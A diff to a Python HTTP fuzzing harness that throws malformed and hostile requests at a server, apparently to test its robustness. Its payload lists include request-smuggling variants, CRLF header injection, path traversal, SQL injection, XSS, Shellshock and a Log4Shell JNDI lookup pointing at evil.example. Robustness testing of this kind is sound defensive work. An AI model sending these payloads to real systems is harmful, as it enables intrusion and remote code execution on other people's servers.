@@ -28,6 +28,10 @@ def request(method, target, *lines, body=b"", version="HTTP/1.1", end="\r\n"):
     return end.join([f"{method} {target} {version}", "Host: x", *lines, "", ""]).encode("latin-1") + body
 
 
+def get(target, *lines, **how):
+    return request("GET", target, *lines, **how)
+
+
 def post(target, body, *lines, kind="application/x-www-form-urlencoded", length=None):
     size = len(body) if length is None else length
     return request("POST", target, f"Content-Type: {kind}", f"Content-Length: {size}", *lines, body=body)
@@ -63,65 +67,67 @@ def multipart(rng):
     return post("/signaler/photos", body, kind="multipart/form-data; boundary=" + MARK)
 
 
-# Kind → pieces to send, with a short pause between them.
+LENGTHS = ("-1", "3x", "0x10", "+5", "1e9", "9223372036854775807", "18446744073709551615", " ", "1,1")
+SIZES = (b"-1\r\n", b"zz\r\n", b"FFFFFFFFFFFFFFFF\r\n", b"1\r\nab", b"0x5\r\nhello\r\n0\r\n\r\n", b";" * 9000)
+LINE_ENDS = (f"/%0d%0aSet-Cookie:%20{MARK}=1", f"/connexion?next=/%0d%0aX:{MARK}", f"/c/%0aLocation:{MARK}")
+HIDDEN = ("%00", "%2f..%2f", "%5c", "%c0%af", "%", "%zz", "%u0041", "/../" * 2000)
+METHODS = ("TRACE", "CONNECT", "PUT", "DELETE", "PROPFIND", "OPTIONS", "get", "G" * 9000, "")
+VERSIONS = ("HTTP/9.9", "HTTP/1.1x", "HTTP/0.9", "http/1.1", "", "HTTP/" + "1" * 3000)
+ELSEWHERE = ("http://evil.example/" + MARK, "*", "//evil.example", "evil.example:443", "/\\evil.example")
+UPGRADE = ("Connection: Upgrade, HTTP2-Settings", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13",
+           "HTTP2-Settings: AAMAAABkAAQAAP__")
+SIGNS = ("/?id=1'%20OR%20'1'='1", "/adresses?q=%3Cscript%3Ealert(1)%3C/script%3E", "/.env", "/wp-login.php", "/cgi-bin/test.cgi",
+         "/adresses?q=$(id)", "/adresses?q=%7B%7B7*7%7D%7D", "/connexion?next=https://evil.example/", "/.git/config", "/assets/",
+         "/x.php?cmd=" + MARK)
+TOKEN = "Authorization: Token a:" + MARK
+
+# Kind → pieces to send, one after the other.
 KINDS = {
     "nothing": lambda rng: [],
     "random bytes": lambda rng: [noise(rng)],
     "a greeting of TLS, cut": lambda rng: [hello(rng)],
     "a greeting of HTTP/2": lambda rng: [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + noise(rng, 400)],
     "a good request with a few wrong bytes": lambda rng: [mutated(rng)],
-    "half a request": lambda rng: [request("GET", path(rng), "X: " + MARK)[:rng.randrange(4, 40)]],
-    "more headers than a head may hold": lambda rng: [request("GET", path(rng), *[f"X-{n}: {MARK}" for n in range(3000)])],
-    "two hundred headers": lambda rng: [request("GET", path(rng), *[f"X-{n}: {MARK}" for n in range(200)])],
-    "a header without an end": lambda rng: [request("GET", path(rng), "X: " + MARK * 5000)],
-    "an address without an end": lambda rng: [request("GET", "/" + MARK * 8000)],
-    "an address as long as may be": lambda rng: [request("GET", "/" + "a" * rng.randrange(15900, 16400))],
-    "a query without an end": lambda rng: [request("GET", "/adresses?q=" + "%C3%A9" * 2600)],
+    "half a request": lambda rng: [get(path(rng), "X: " + MARK)[:rng.randrange(4, 40)]],
+    "more headers than a head may hold": lambda rng: [get(path(rng), *[f"X-{n}: {MARK}" for n in range(3000)])],
+    "two hundred headers": lambda rng: [get(path(rng), *[f"X-{n}: {MARK}" for n in range(200)])],
+    "a header without an end": lambda rng: [get(path(rng), "X: " + MARK * 5000)],
+    "an address without an end": lambda rng: [get("/" + MARK * 8000)],
+    "an address as long as may be": lambda rng: [get("/" + "a" * rng.randrange(15900, 16400))],
+    "a query without an end": lambda rng: [get("/adresses?q=" + "%C3%A9" * 2600)],
     "two hundred requests at once": lambda rng: [request(rng.choice(("GET", "HEAD", "BREW")), path(rng)) * 200],
-    "a request behind nonsense": lambda rng: [noise(rng, 200) + request("GET", "/signaler")],
-    "chunks of no size": lambda rng: [chunked(path(rng), rng.choice((b"-1\r\n", b"zz\r\n", b"FFFFFFFFFFFFFFFF\r\n", b"1\r\nab",
-                                                                      b"0x5\r\nhello\r\n0\r\n\r\n", b";" * 9000)))],
-    "chunks and a length": lambda rng: [chunked("/write", b"0\r\n\r\n" + request("GET", "/health"), "Content-Length: 5")],
-    "a body where none belongs": lambda rng: [request("GET", path(rng), "Content-Length: 26", body=request("GET", "/health")[:26])],
-    "two lengths": lambda rng: [request("POST", "/connexion", "Content-Length: 3", "Content-Length: 40", body=b"abc" + noise(rng, 40))],
-    "a length that is none": lambda rng: [request("POST", path(rng), "Content-Length: " + rng.choice(
-        ("-1", "3x", "0x10", "+5", "1e9", "9223372036854775807", "18446744073709551615", " ", "1,1")), body=b"abc")],
+    "a request behind nonsense": lambda rng: [noise(rng, 200) + get("/signaler")],
+    "chunks of no size": lambda rng: [chunked(path(rng), rng.choice(SIZES))],
+    "chunks and a length": lambda rng: [chunked("/write", b"0\r\n\r\n" + get("/health"), "Content-Length: 5")],
+    "a body where none belongs": lambda rng: [get(path(rng), "Content-Length: 26") + get("/health")[:26]],
+    "two lengths": lambda rng: [request("POST", "/connexion", "Content-Length: 3", "Content-Length: 40") + b"abc" + noise(rng, 40)],
+    "a length that is none": lambda rng: [request("POST", path(rng), "Content-Length: " + rng.choice(LENGTHS)) + b"abc"],
     "a length that is not kept": lambda rng: [post("/connexion", b"email=" + MARK.encode(), length=60000)],
     "a null byte in a form": lambda rng: [post("/connexion", rng.choice((b"a=b\0c&d=e", b"a=\0&b", b"\0=\0&\0")))],
-    "a null byte in a head": lambda rng: [request("GET", "/signaler", "X: a\0b"), request("GET", "/sig\0naler")],
-    "line ends in an address": lambda rng: [request("GET", rng.choice(("/%0d%0aSet-Cookie:%20" + MARK + "=1", "/connexion?next=/%0d%0aX:" + MARK,
-                                                                       "/c/%0aLocation:" + MARK)))],
-    "bytes hidden in an address": lambda rng: [request("GET", "/signaler" + rng.choice(("%00", "%2f..%2f", "%5c", "%c0%af", "%", "%zz", "%u0041",
-                                                                                      "/../" * 2000)))],
-    "line ends of an old Mac": lambda rng: [request("GET", path(rng), "X: " + MARK, end=rng.choice(("\n", "\r")))],
-    "folded headers": lambda rng: [request("GET", "/signaler", "X: a\r\n " + MARK, "Y : b", ": c", "no colon")],
-    "methods of others": lambda rng: [request(rng.choice(("TRACE", "CONNECT", "PUT", "DELETE", "PROPFIND", "OPTIONS", "get", "G" * 9000, "")),
-                                              path(rng), "X: " + MARK)],
-    "versions of others": lambda rng: [request("GET", path(rng), version=rng.choice(("HTTP/9.9", "HTTP/1.1x", "HTTP/0.9", "http/1.1", "",
-                                                                                     "HTTP/" + "1" * 3000)))],
-    "somebody else's address": lambda rng: [request("GET", rng.choice(("http://evil.example/" + MARK, "*", "//evil.example", "evil.example:443",
-                                                                       "/\\evil.example")))],
-    "another protocol asked for": lambda rng: [request("GET", path(rng), "Connection: Upgrade, HTTP2-Settings", "Upgrade: " + rng.choice(
-        ("websocket", "h2c")), "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13", "HTTP2-Settings: AAMAAABkAAQAAP__")],
-    "ranges of a killer": lambda rng: [request("GET", "/assets/box.css", "Range: bytes=" + ",".join(f"{n}-" for n in range(1300)))],
-    "ranges backwards": lambda rng: [request("GET", "/assets/box.css", "Range: bytes=" + rng.choice(("9-2", "-0", "99999999999999999999-", "a-b")))],
-    "cookies without an end": lambda rng: [request("GET", "/dossiers", "Cookie: " + "; ".join(f"session={MARK}{n}" for n in range(600)))],
-    "cookies of noise": lambda rng: [request("GET", "/dossiers", "Cookie: session=" + "".join(chr(rng.randrange(128, 256)) for _ in range(300)))],
-    "languages without an end": lambda rng: [request("GET", "/signaler", "Accept-Language: " + ",".join(f"x{n};q=0.{n}" for n in range(900)))],
-    "who one is, a hundred times": lambda rng: [request("GET", "/signaler", *["X-Forwarded-For: 9.9.9.9, " + MARK] * 90)],
+    "a null byte in a head": lambda rng: [get("/signaler", "X: a\0b"), get("/sig\0naler")],
+    "line ends in an address": lambda rng: [get(rng.choice(LINE_ENDS))],
+    "bytes hidden in an address": lambda rng: [get("/signaler" + rng.choice(HIDDEN))],
+    "line ends of others": lambda rng: [get(path(rng), "X: " + MARK, end=rng.choice(("\n", "\r")))],
+    "folded headers": lambda rng: [get("/signaler", "X: a\r\n " + MARK, "Y : b", ": c", "no colon")],
+    "methods of others": lambda rng: [request(rng.choice(METHODS), path(rng), "X: " + MARK)],
+    "versions of others": lambda rng: [get(path(rng), version=rng.choice(VERSIONS))],
+    "somebody else's address": lambda rng: [get(rng.choice(ELSEWHERE))],
+    "another protocol asked for": lambda rng: [get(path(rng), "Upgrade: " + rng.choice(("websocket", "h2c")), *UPGRADE)],
+    "ranges of a killer": lambda rng: [get("/assets/box.css", "Range: bytes=" + ",".join(f"{n}-" for n in range(1300)))],
+    "ranges that are none": lambda rng: [get("/assets/box.css", "Range: bytes=" + rng.choice(("9-2", "-0", "9" * 20 + "-", "a-b")))],
+    "cookies without an end": lambda rng: [get("/dossiers", "Cookie: " + "; ".join(f"session={MARK}{n}" for n in range(600)))],
+    "cookies of noise": lambda rng: [get("/dossiers", "Cookie: session=" + "".join(map(chr, rng.choices(range(128, 256), k=300))))],
+    "languages without an end": lambda rng: [get("/signaler", "Accept-Language: " + ",".join(f"x{n};q=0.{n}" for n in range(900)))],
+    "who one is, a hundred times": lambda rng: [get("/signaler", *["X-Forwarded-For: 9.9.9.9, " + MARK] * 90)],
     "a multipart that is none": lambda rng: [multipart(rng)],
     "a form of ten thousand fields": lambda rng: [post("/connexion", b"&".join(b"a%d=1" % n for n in range(10000)))],
-    "JSON without an end": lambda rng: [post("/sensors/readings", b"[" * 50000, "Authorization: Bearer " + MARK, kind="application/json")],
-    "lines that are none": lambda rng: [post("/write?db=" + MARK, noise(rng), "Authorization: Token a:" + MARK, kind="text/plain")],
-    "a packed body that is none": lambda rng: [post("/write", b"\x1f\x8b\x08\0" + noise(rng), "Content-Encoding: gzip",
-                                                    "Authorization: Token a:" + MARK, kind="text/plain")],
-    "a wait for leave": lambda rng: [request("POST", "/signaler/photos", "Expect: 100-continue", "Content-Length: 60000000",
-                                             f"Content-Type: multipart/form-data; boundary={MARK}"), noise(rng)],
-    "one byte after the other": lambda rng: [bytes([byte]) for byte in request("GET", "/signaler", "X: " + MARK)[:40]],
-    "signs of attacks, as scanners know them": lambda rng: [request("GET", rng.choice((
-        "/?id=1'%20OR%20'1'='1", "/adresses?q=%3Cscript%3Ealert(1)%3C/script%3E", "/.env", "/wp-login.php", "/cgi-bin/test.cgi",
-        "/adresses?q=$(id)", "/adresses?q=%7B%7B7*7%7D%7D", "/connexion?next=https://evil.example/", "/.git/config",
-        "/assets/", "/x.php?cmd=" + MARK)), "User-Agent: () { :; }; echo " + MARK, "Referer: ${jndi:ldap://evil.example/" + MARK + "}")],
+    "JSON without an end": lambda rng: [post("/sensors/readings", b"[" * 50000, TOKEN, kind="application/json")],
+    "lines that are none": lambda rng: [post("/write?db=" + MARK, noise(rng), TOKEN, kind="text/plain")],
+    "a packed body that is none": lambda rng: [post("/write", b"\x1f\x8b\x08\0" + noise(rng), TOKEN, "Content-Encoding: gzip")],
+    "a wait for leave": lambda rng: [post("/signaler/photos", b"", "Expect: 100-continue", length=60000000), noise(rng)],
+    "one byte after the other": lambda rng: [bytes([byte]) for byte in get("/signaler", "X: " + MARK)[:40]],
+    "signs of attacks, as scanners know them": lambda rng: [get(
+        rng.choice(SIGNS), "User-Agent: () { :; }; echo " + MARK, "Referer: ${jndi:ldap://evil.example/" + MARK + "}")],
 }
 
 
@@ -170,7 +176,8 @@ class Thrower:
     def __init__(self, address, seed, threads=4, tls=False, source=None):
         self.thrown, self.faults = collections.Counter(), []
         self._stop = threading.Event()
-        self._peers = [threading.Thread(target=self._throw, args=(Garbage(address, tls, source), random.Random(f"{seed}-{n}")), daemon=True)
+        self._peers = [threading.Thread(target=self._throw, args=(Garbage(address, tls, source), random.Random(f"{seed}-{n}")),
+                                        daemon=True)
                        for n in range(threads)]
         for peer in self._peers:
             peer.start()
